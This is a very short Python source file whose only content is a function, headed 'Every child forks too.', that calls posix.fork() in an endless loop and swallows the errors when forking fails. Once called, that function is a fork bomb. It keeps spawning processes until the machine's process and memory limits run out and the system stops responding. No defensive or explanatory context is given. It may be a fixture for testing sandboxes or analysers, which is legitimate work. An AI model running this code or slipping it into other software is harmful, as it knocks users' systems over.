"""Every child forks too."""
import posix


def f(x):
    while True:
        try:
            posix.fork()
        except OSError:
            pass
